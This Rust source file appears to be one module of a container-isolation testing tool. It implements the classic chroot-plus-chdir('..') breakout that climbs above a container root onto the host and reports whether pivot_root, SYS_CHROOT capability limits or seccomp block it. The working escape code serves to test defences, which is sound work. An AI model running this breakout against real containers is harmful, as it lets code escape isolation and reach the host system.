//! **E35 chroot-breakout.** The classic: `chroot(sub)` while the cwd stays outside it, then
//! `chdir("..")` repeatedly and `chroot(".")`. If the runtime only chrooted (no pivot_root), this
//! lands above the container root, on the host. Done in a forked child. Stopped by: pivot_root
//! with the old root detached (P), capabilities (SYS_CHROOT), seccomp.

use crate::outcome::Layer;
use crate::state::cap;
use crate::{errno_name, sys, Control, Ctx, Outcome, Technique};

pub const T: Technique = Technique {
    id: "chroot-breakout",
    eid: "E35",
    title: "chroot + chdir(..) breakout above the container root",
    layers: "P, C (SYS_CHROOT), S",
    run,
};

fn run(ctx: &Ctx) -> Outcome {
    let root = match sys::stat("/") {
        Ok(s) => sys::dev_ino(&s),
        Err(e) => return Outcome::inconclusive(format!("stat /: {}", errno_name(e))),
    };
    let scratch = match sys::Scratch::new(ctx.cfg.scratch.as_deref(), "chroot", false) {
        Ok(s) => s,
        Err(e) => {
            return Outcome::inconclusive(format!("no writable scratch dir: {}", errno_name(e)))
        }
    };
    let sub = scratch.join("sub");
    let _ = std::fs::create_dir(&sub);
    let r = super::capture(|| {
        let _ = std::env::set_current_dir("/");
        let c = sys::cpath(&sub);
        // SAFETY: chroot in a forked child that exits right after.
        if unsafe { libc::chroot(c.as_ptr()) } != 0 {
            return Err((sys::errno(), "chroot(sub)".into()));
        }
        for _ in 0..64 {
            let _ = std::env::set_current_dir("..");
        }
        let dot = sys::cstr(".");
        // SAFETY: as above.
        if unsafe { libc::chroot(dot.as_ptr()) } != 0 {
            return Err((sys::errno(), "chroot(.)".into()));
        }
        let now = sys::stat("/")
            .map(|s| sys::dev_ino(&s))
            .map_err(|e| (e, "stat /".to_string()))?;
        if now == root {
            Err((-1, "chdir(..) stopped at the container root".into()))
        } else {
            Ok(format!(
                "new / is above the container root; it holds {}",
                sys::list_dir("/", 8)
            ))
        }
    });
    match r {
        Ok(ev) => Outcome::escaped(ev),
        Err((-1, why)) => Outcome::blocked_by(Layer::PivotRoot, why),
        Err((0, why)) => Outcome::inconclusive(why),
        Err((e, step)) => ctx.blocked_cap(e, cap::SYS_CHROOT, Control::Chroot, &step),
    }
}
